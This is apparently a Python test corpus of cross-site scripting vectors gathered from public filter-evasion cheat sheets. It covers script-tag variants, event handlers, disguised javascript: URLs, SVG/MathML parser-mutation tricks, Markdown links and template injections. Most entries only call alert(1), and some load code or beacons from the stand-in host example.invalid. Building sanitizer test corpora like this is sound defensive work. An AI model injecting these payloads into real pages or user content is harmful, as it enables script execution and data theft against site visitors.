# ruff: noqa: E501
"""Known ways to smuggle a script into a page, one vector an entry.

Compiled from the public families of filter-evasion cheat sheets: script elements and their broken
forms, event handlers on elements that fire without a click, addresses with a scheme disguised,
SVG and MathML, mutation through parsing twice, styles, Markdown, and frames.
"""

from __future__ import annotations

from typing import Final

_SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script>alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:,alert(1)></script>",
    "<script src=//example.invalid/x.js></script>",
    "<script src=https:example.invalid/x></script>",
    "<script type=module>alert(1)</script>",
    "<script>eval('al'+'ert(1)')</script>",
    "<script>\\u0061lert(1)</script>",
    "<script>window['alert'](1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</pre></code><script>alert(1)</script>",
    "</iframe><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href=data:,alert(1) /></svg>",
    "<math><script>alert(1)</script></math>",
    "<!--><script>alert(1)</script>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml?><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)
_EVENTS: Final = (
    "<img src=x onerror={js}>", "<img src=x onerror=\"{js}\">", "<img src=x onerror='{js}'>",
    "<img/src=x/onerror={js}>", "<img src=x\tonerror={js}>", "<img src=x\nonerror\n=\n{js}>",
    "<IMG SRC=x ONERROR={js}>", "<img src=x:x onerror={js}>", "<img srcset=x onerror={js}>",
    "<image src=x onerror={js}>", "<img src='' onerror={js} x=`>", "\"><img src=x onerror={js}>",
    "'><img src=x onerror={js}>", "`><img src=x onerror={js}>", "<svg onload={js}>",
    "<svg/onload={js}>", "<svg onload={js}//", "\"><svg onload={js}>", "<body onload={js}>",
    "<body onpageshow={js}>", "<body onfocus={js} autofocus>", "<body background=x onerror={js}>",
    "<input autofocus onfocus={js}>", "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>", "<keygen autofocus onfocus={js}>",
    "<button autofocus onfocus={js}>x</button>", "<a href=x id=x tabindex=1 onfocus={js}>x</a>",
    "<video src=x onerror={js}>", "<video><source onerror={js}></video>",
    "<video onloadstart={js} src=x>", "<audio src=x onerror={js}>", "<audio onloadstart={js} src=x>",
    "<details open ontoggle={js}>x</details>", "<details ontoggle={js} open>", "<marquee onstart={js}>",
    "<marquee loop=1 width=0 onfinish={js}>x</marquee>", "<object data=x onerror={js}>",
    "<embed src=x onerror={js}>", "<iframe onload={js}></iframe>", "<iframe src=x onload={js}>",
    "<frameset onload={js}>", "<link rel=stylesheet href=x onerror={js}>", "<style onload={js}></style>",
    "<meta onload={js}>", "<div style=animation-name:x onanimationstart={js}>x</div>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={js}>x</b>",
    "<b style='transition:all 1s' ontransitionend={js}>x</b>", "<p onpointerover={js}>x</p>",
    "<p onmouseover={js}>x</p>", "<div onwheel={js}>x</div>", "<dialog open onclose={js}>x</dialog>",
    "<form onformdata={js}><button>x", "<input onauxclick={js}>", "<xss contenteditable onbeforeinput={js}>x",
    "<xss onscrollend={js} style=overflow:auto>x", "<xss id=x tabindex=1 onactivate={js}></xss>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>", "<svg><set onbegin={js} attributename=x>",
    "<svg><animatetransform onbegin={js} attributeName=transform>", "<svg><discard onbegin={js}>",
    "<svg><image href=x onerror={js}>", "<svg><use href=x onerror={js}>", "<math onfocus={js} tabindex=1>",
)  # fmt: skip
_JS: Final = ("alert(1)", "alert`1`", "top.alert(1)")
_SCHEMES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "jav&#x09;ascript:alert(1)",
    "jav&NewLine;ascript:alert(1)", "\x01javascript:alert(1)", "javascript://%0aalert(1)",
    "vbscript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "view-source:javascript:alert(1)",
    "blob:null/x", "//example.invalid/x", "https://example.invalid/x",
)  # fmt: skip
_HOLDERS: Final = (
    "<iframe src=\"{u}\"></iframe>", "<object data=\"{u}\"></object>", "<embed src=\"{u}\">",
    "<meta http-equiv=refresh content=\"0;url={u}\">",
)  # fmt: skip
_MARKDOWN: Final = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java&#10;script:alert(1))",
    "[x](javascript&colon;alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "![x](x\"onerror=\"alert(1))", "![x](https://example.invalid/pixel.png)", "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]", "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](<javascript:alert(1)>)", "[x](javascript:alert(1) \"title\")", "[a](vbscript:alert(1))",
    "```<img src=x onerror=alert(1)>\n", "<a href=javascript:alert(1) autofocus>x</a>",
    "[x](\" onfocus=alert(1) autofocus \")", "![\" onerror=alert(1) x=\"](x)",
)  # fmt: skip
_OTHERS: Final = (
    "<base href=//example.invalid/>", "<link rel=stylesheet href=//example.invalid/x.css>",
    "<link rel=preload as=script href=//example.invalid/x>", "<link rel=prefetch href=//example.invalid/>",
    "<link rel=dns-prefetch href=//example.invalid/>", "<style>@import '//example.invalid/x.css';</style>",
    "<style>*{background:url(//example.invalid/x)}</style>", "<b style=background:url(//example.invalid)>x",
    "<b style=width:expression(alert(1))>x</b>", "<b style=behavior:url(x.htc)>x</b>",
    "<img src=//example.invalid/x.png>", "<img srcset='//example.invalid/x 1x'>",
    "<picture><source srcset=//example.invalid/x><img></picture>", "<video poster=//example.invalid/x>",
    "<audio src=//example.invalid/x autoplay>", "<track src=//example.invalid/x>",
    "<form action=//example.invalid><input type=submit>", "<button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>", "<table background=//example.invalid/x>",
    "<input type=image src=//example.invalid/x>", "<svg><image href=//example.invalid/x></svg>",
    "<svg><use href=//example.invalid/x.svg#x></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<svg><animate attributeName=href values=javascript:alert(1)><a>x", "<svg><foreignObject><iframe src=x>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><desc><script>alert(1)</script></desc>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml>",
    "<template><img src=x onerror=alert(1)></template>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>", "<portal src=javascript:alert(1)>",
    "<applet code=x>", "<a id=document name=body>x</a>", "<img name=getElementById>",
    "<form name=document><input name=cookie></form>", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{7*7}}", "\u202ealert(1)\u202c", "\ufeff<img src=x onerror=alert(1)>",
    "%3Cimg%20src=x%20onerror=alert(1)%3E", "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;", "\\x3cimg src=x onerror=alert(1)\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"><img src=x id=dmFyIGE= onerror=eval(atob(this.id))>", "<a href=\"//example.invalid\" ping=\"//example.invalid\">x</a>",
    "javascript:alert(1)", "'-alert(1)-'", "\"-alert(1)-\"", "');alert(1);//", "</script><svg onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>", "<a href=' javascript:alert(1)'>x</a>", "<a/href=javascript&colon;alert(1)>x",
    "<area href=javascript:alert(1)>", "<map><area href=javascript:alert(1) shape=default></map>",
)  # fmt: skip

VECTORS: Final = tuple(dict.fromkeys([
    *_SCRIPTS,
    *(e.format(js=_JS[i % len(_JS)]) for i, e in enumerate(_EVENTS)),
    *(h.format(u=u) for u in _SCHEMES for h in _HOLDERS),
    *(f'<a href="{u}">x</a>' for u in _SCHEMES),
    *_MARKDOWN,
    *_OTHERS,
]))  # fmt: skip
